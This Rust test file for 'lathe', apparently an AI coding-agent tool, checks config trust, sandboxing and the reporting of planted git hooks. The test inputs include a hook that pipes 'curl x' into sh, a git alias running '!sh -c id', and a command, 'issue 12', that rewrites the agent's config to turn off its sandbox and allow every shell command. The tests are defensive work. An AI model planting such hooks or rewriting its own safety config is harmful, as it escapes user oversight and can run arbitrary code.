//! Trust in a workspace's own `.lathe/config.toml`, end to end with the real binary: its
//! settings that weaken safety are ignored (with a notice) until `lathe trust` records that
//! exact file, a changed byte untrusts it, tightening settings always apply; and a command that
//! plants git hooks, git configuration or `.lathe/` files is reported.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

use lathe_testkit::Script;

use crate::agent_harness::{Harness, assert_exit, json_lines, of_type, reply};

struct Fixture {
    _dir: tempfile::TempDir,
    _outside: tempfile::TempDir,
    ws: PathBuf,
    data: PathBuf,
    config_dir: PathBuf,
    /// A directory outside the workspace and outside /tmp (which the sandbox allows).
    outside: PathBuf,
}

fn landlock() -> bool {
    let available = lathe_exec::sandbox::probe().is_available();
    if !available {
        eprintln!("skipping: landlock is not available here");
    }
    available
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let data = dir.path().join("data");
    let config_dir = dir.path().join("config");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::create_dir_all(&config_dir).unwrap();
    let outside = lathe_testkit::outside_scratch_dir(env!("CARGO_TARGET_TMPDIR"));
    Fixture {
        ws: ws.canonicalize().unwrap(),
        data,
        config_dir,
        outside: outside.path().canonicalize().unwrap(),
        _dir: dir,
        _outside: outside,
    }
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

impl Fixture {
    fn config(&self, text: &str) {
        std::fs::create_dir_all(self.ws.join(".lathe")).unwrap();
        std::fs::write(self.ws.join(".lathe/config.toml"), text).unwrap();
    }

    fn lathe(&self) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_lathe"));
        cmd.current_dir(&self.ws)
            .env("LATHE_DATA_DIR", &self.data)
            .env("LATHE_CONFIG_DIR", &self.config_dir)
            .env_remove("LATHE_SANDBOX_FORCE_UNAVAILABLE")
            .env_remove("LATHE_LOG")
            .stdin(Stdio::null());
        cmd
    }

    fn run(&self, args: &[&str]) -> Output {
        self.lathe().args(args).output().unwrap()
    }

    /// `lathe tool shell ARGS --json`: the result and stderr.
    fn shell(&self, command: &str) -> (Value, String) {
        let args = json!({ "command": command }).to_string();
        let out = self.run(&["tool", "shell", &args, "--json"]);
        assert!(out.status.code().is_some_and(|c| c <= 1), "{out:?}");
        let value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {out:?}"));
        (value, stderr(&out))
    }

    /// `lathe policy check --json -- COMMAND`: the decision and the mode.
    fn decide(&self, command: &str) -> (String, String) {
        let out = self.run(&["policy", "check", "--json", "--", command]);
        let value: Value =
            serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {out:?}"));
        (
            value["decision"].as_str().unwrap().to_owned(),
            value["mode"].as_str().unwrap().to_owned(),
        )
    }

    fn trust_yes(&self) -> Output {
        let out = self.run(&["trust", "--yes"]);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        out
    }
}

fn text(result: &Value) -> &str {
    result["text"].as_str().unwrap()
}

fn write_to(path: &Path) -> String {
    format!("echo written > '{}'; echo after-write", path.display())
}

#[test]
fn an_untrusted_sandbox_off_is_ignored_until_trusted_and_a_changed_byte_untrusts_it() {
    if !landlock() {
        return;
    }
    let f = fixture();
    f.config("[shell]\nsandbox = false\npreview = \"small\"\n");
    let target = f.outside.join("escape.txt");

    // Untrusted: the command runs sandboxed, and the notice says how to trust the file.
    let (result, err) = f.shell(&write_to(&target));
    assert!(
        text(&result).contains("| sandboxed (landlock"),
        "{}",
        text(&result)
    );
    assert!(!target.exists(), "an untrusted file turned the sandbox off");
    assert!(err.contains("is not trusted"), "{err}");
    assert!(err.contains("ignored: shell.sandbox."), "{err}");
    assert!(
        err.contains(&format!("run: lathe trust {}", f.ws.display())),
        "{err}"
    );

    // `lathe trust` shows what it grants; without a terminal it needs --yes.
    let out = f.run(&["trust"]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert!(stdout(&out).contains("shell.sandbox = false (commands run without the sandbox)"));
    assert!(stderr(&out).contains("pass --yes"), "{}", stderr(&out));
    let out = f.trust_yes();
    assert!(stdout(&out).contains("Trusted."), "{}", stdout(&out));

    // Trusted: the same file now applies, with no notice.
    let (result, err) = f.shell(&write_to(&target));
    assert!(
        text(&result).contains("not sandboxed (turned off in the configuration)"),
        "{}",
        text(&result)
    );
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "written\n");
    assert!(!err.contains("trust"), "{err}");
    std::fs::remove_file(&target).unwrap();

    // One changed byte: untrusted again.
    f.config("[shell]\nsandbox = false\npreview = \"large\"\n");
    let (result, err) = f.shell(&write_to(&target));
    assert!(
        text(&result).contains("| sandboxed (landlock"),
        "{}",
        text(&result)
    );
    assert!(!target.exists(), "a changed file kept its trust");
    assert!(err.contains("has changed since you trusted it"), "{err}");
    let list = stdout(&f.run(&["trust", "--list"]));
    assert!(list.contains(&f.ws.display().to_string()), "{list}");
    assert!(list.contains("changed since (untrusted)"), "{list}");

    // Trusted again, then revoked.
    f.trust_yes();
    assert!(stdout(&f.run(&["trust", "--list"])).contains("matches"));
    let out = f.run(&["trust", "--revoke"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let (_, err) = f.shell("true");
    assert!(err.contains("is not trusted"), "{err}");
}

#[test]
fn allow_rules_and_approval_of_an_untrusted_file_are_ignored_but_deny_rules_apply() {
    let f = fixture();
    std::fs::write(
        f.config_dir.join("config.toml"),
        "[permissions]\ndeny = [\"shell(sudo *)\"]\n",
    )
    .unwrap();
    // `deny = []` would have replaced the user's list; the file's lists only add to it.
    f.config(
        "[agent]\napproval = \"full\"\n\
         [permissions]\nallow = [\"shell(curl *)\"]\ndeny = [\"shell(make deploy)\"]\n\
         sensitive_paths = [\"!.env\", \"prod/**\"]\n",
    );
    assert_eq!(
        f.decide("curl https://example.com"),
        ("ask".into(), "ask".into())
    );
    assert_eq!(f.decide("make deploy").0, "deny");
    assert_eq!(f.decide("sudo ls").0, "deny", "the user's rule was dropped");
    assert_eq!(
        f.decide("cat .env").0,
        "ask",
        "an exemption applied untrusted"
    );
    assert_eq!(f.decide("cat prod/secrets.toml").0, "ask");
    let out = f.run(&["trust"]);
    let shown = stdout(&out);
    for line in [
        "agent.approval = \"full\"",
        "permissions.allow = [\"shell(curl *)\"]",
        "permissions.sensitive_paths = [\"!.env\"]",
    ] {
        assert!(shown.contains(line), "{line}: {shown}");
    }
    assert!(
        shown.contains(
            "apply whether it is trusted or not: permissions.deny, permissions.sensitive_paths"
        ),
        "{shown}"
    );

    f.trust_yes();
    assert_eq!(
        f.decide("curl https://example.com"),
        ("allow".into(), "full".into())
    );
    assert_eq!(f.decide("sudo ls").0, "deny");
    assert_eq!(f.decide("make deploy").0, "deny");

    // A stricter mode from an untrusted file applies at once.
    f.config("[agent]\napproval = \"read-only\"\n");
    assert_eq!(f.decide("touch x"), ("deny".into(), "read-only".into()));
}

#[test]
fn lathe_trust_refuses_what_it_cannot_read_and_says_so() {
    let f = fixture();
    let out = f.run(&["trust", "--yes"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("has no .lathe/config.toml"),
        "{}",
        stderr(&out)
    );
    f.config("[shell\nsandbox = false\n");
    let out = f.run(&["trust", "--yes"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("invalid config file"),
        "{}",
        stderr(&out)
    );
    f.config("[shell]\nsandbx = false\n");
    let out = f.run(&["trust", "--yes"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("sandbx"), "{}", stderr(&out));
    // A file that grants nothing: recorded all the same, and said so.
    f.config("[shell]\npreview = \"small\"\n");
    let out = f.run(&["trust", "--yes"]);
    assert_eq!(out.status.code(), Some(0));
    assert!(stdout(&out).contains("grants nothing that weakens safety"));
    let out = f.run(&["trust", "--revoke", "/nonexistent/dir"]);
    assert_eq!(out.status.code(), Some(2));
}

fn git(ws: &Path, args: &[&str]) {
    let status = Command::new("git")
        .args(args)
        .current_dir(ws)
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

fn changes(result: &Value) -> Vec<(String, String)> {
    result["metadata"]["workspace_changes"]
        .as_array()
        .map(|changes| {
            changes
                .iter()
                .map(|c| {
                    (
                        c["path"].as_str().unwrap().to_owned(),
                        c["change"].as_str().unwrap().to_owned(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn a_command_that_plants_a_hook_git_config_or_lathe_config_is_reported() {
    let f = fixture();
    git(&f.ws, &["init", "-q", "."]);

    let (result, _) = f.shell("mkdir -p .git/hooks && echo 'curl x | sh' > .git/hooks/pre-commit");
    assert_eq!(
        changes(&result),
        [(".git/hooks/pre-commit".into(), "created".into())]
    );
    let said = text(&result);
    assert!(said.contains(".git/hooks/pre-commit created"), "{said}");
    assert!(said.contains("Lathe does not run git hooks"), "{said}");
    assert!(said.contains("cat .git/hooks/pre-commit"), "{said}");

    let (result, _) = f.shell("git config core.hooksPath x && git config alias.st '!sh -c id'");
    assert_eq!(changes(&result), [(".git/config".into(), "changed".into())]);
    assert_eq!(
        result["metadata"]["workspace_changes"][0]["keys"],
        json!(["core.hookspath=x", "alias.st=!sh -c id"])
    );
    // The directory core.hooksPath names is watched from now on.
    let (result, _) = f.shell("mkdir -p x && echo y > x/post-checkout");
    assert_eq!(
        changes(&result),
        [("x/post-checkout".into(), "created".into())]
    );

    let (result, _) = f.shell("mkdir -p .lathe && echo '[shell]' > .lathe/config.toml");
    assert_eq!(
        changes(&result),
        [(".lathe/config.toml".into(), "created".into())]
    );
    assert!(text(&result).contains("`lathe trust`"), "{}", text(&result));

    // Nothing planted: nothing said.
    let (result, _) = f.shell("echo hi > notes.txt && git status --short >/dev/null");
    assert!(changes(&result).is_empty(), "{result}");
    assert!(
        !text(&result).contains("workspace safety"),
        "{}",
        text(&result)
    );
}

#[test]
fn a_background_command_that_plants_a_hook_is_reported_by_a_later_call() {
    let f = fixture();
    git(&f.ws, &["init", "-q", "."]);
    let calls = [
        json!({"name": "shell", "arguments": {"command": "echo x > .git/hooks/post-merge", "background": true}}),
        // Until the hook has its content: `>` creates the file before `echo` writes, and a
        // call that saw it empty would rightly report it created and the next one changed.
        json!({"name": "shell", "arguments": {"command": "while [ ! -s .git/hooks/post-merge ]; do sleep 0.02; done"}}),
        json!({"name": "list_commands", "arguments": {}}),
    ];
    let mut child = f
        .lathe()
        .args(["tool", "--batch"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        for call in &calls {
            writeln!(stdin, "{call}").unwrap();
        }
    }
    let out = child.wait_with_output().unwrap();
    let results: Vec<Value> = stdout(&out)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(results.len(), 3, "{}", stdout(&out));
    let reported: Vec<_> = results.iter().flat_map(changes).collect();
    assert_eq!(
        reported,
        [(".git/hooks/post-merge".into(), "created".into())],
        "reported once, by the call that saw it"
    );
}

#[test]
fn lathe_exec_emits_a_workspace_changed_event() {
    let script = Script::new()
        .chat(
            reply()
                .tool_call(
                    "shell",
                    json!({"command": "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit"}),
                )
                .done(),
        )
        .chat(reply().text("Done.").done());
    let h = Harness::new(script);
    git(&h.ws, &["init", "-q", "."]);
    // Writing under .git asks (a sensitive path); the point here is what follows it.
    let output = h.exec("add a hook", &["--dangerously-skip-approvals", "--json"]);
    assert_exit(&output, 0);
    let events = json_lines(&output);
    let changed = of_type(&events, "workspace_changed");
    assert_eq!(changed.len(), 1, "{events:#?}");
    assert_eq!(changed[0]["changes"][0]["path"], ".git/hooks/pre-commit");
    assert_eq!(changed[0]["changes"][0]["what"], "git_hook");
    let message = changed[0]["message"].as_str().unwrap();
    assert!(
        message.contains("Lathe does not run git hooks"),
        "{message}"
    );

    // The human output shows it too.
    let script = Script::new()
        .chat(
            reply()
                .tool_call("shell", json!({"command": "echo y > .git/hooks/pre-push"}))
                .done(),
        )
        .chat(reply().text("Done.").done());
    let h2 = Harness::new(script);
    git(&h2.ws, &["init", "-q", "."]);
    let output = h2.exec("add a hook", &["--dangerously-skip-approvals"]);
    assert_exit(&output, 0);
    let shown = String::from_utf8_lossy(&output.stdout);
    assert!(
        shown.contains("workspace safety: changed: .git/hooks/pre-push created"),
        "{shown}"
    );
}

/// `lathe trust` with a terminal on stdin: the answer decides (exit 1 declined, 0 recorded).
#[test]
fn lathe_trust_asks_on_a_terminal() {
    let f = fixture();
    f.config("[shell]\nsandbox_network = true\n");
    for (answer, code, said) in [("n", 1, "Not trusted."), ("yes", 0, "Trusted.")] {
        let mut cmd = f.lathe();
        cmd.arg("trust");
        let out = crate::pty::with_terminal_stdin(cmd, &format!("{answer}\r"));
        assert_eq!(out.status.code(), Some(code), "{answer}: {out:?}");
        let shown = stdout(&out);
        assert!(
            shown.contains("shell.sandbox_network = true (sandboxed commands may use the network)"),
            "{shown}"
        );
        assert!(shown.contains("Trust this file? [y/N]"), "{shown}");
        assert!(shown.contains(said), "{shown}");
    }
    assert!(stdout(&f.run(&["trust", "--list"])).contains("matches"));
}

/// The attack of issue 12: a sandboxed command rewrites a trusted `.lathe/config.toml` to turn
/// the sandbox off. The call's result says so, and the next session is still sandboxed.
#[test]
fn a_command_that_rewrites_a_trusted_config_does_not_unsandbox_the_next_session() {
    if !landlock() {
        return;
    }
    let f = fixture();
    f.config("[shell]\npreview = \"small\"\n");
    f.trust_yes();
    let (result, _) = f.shell(
        "printf '[shell]\\nsandbox = false\\n[permissions]\\nallow = [\"shell(*)\"]\\n' > .lathe/config.toml",
    );
    assert_eq!(
        changes(&result),
        [(".lathe/config.toml".into(), "changed".into())]
    );
    assert!(
        text(&result).contains("will not apply until the user reviews it and runs `lathe trust`"),
        "{}",
        text(&result)
    );
    let target = f.outside.join("after.txt");
    let (result, err) = f.shell(&write_to(&target));
    assert!(
        text(&result).contains("| sandboxed (landlock"),
        "{}",
        text(&result)
    );
    assert!(
        !target.exists(),
        "the rewritten file turned the sandbox off"
    );
    assert!(err.contains("has changed since you trusted it"), "{err}");
    assert!(err.contains("permissions.allow, shell.sandbox"), "{err}");
}
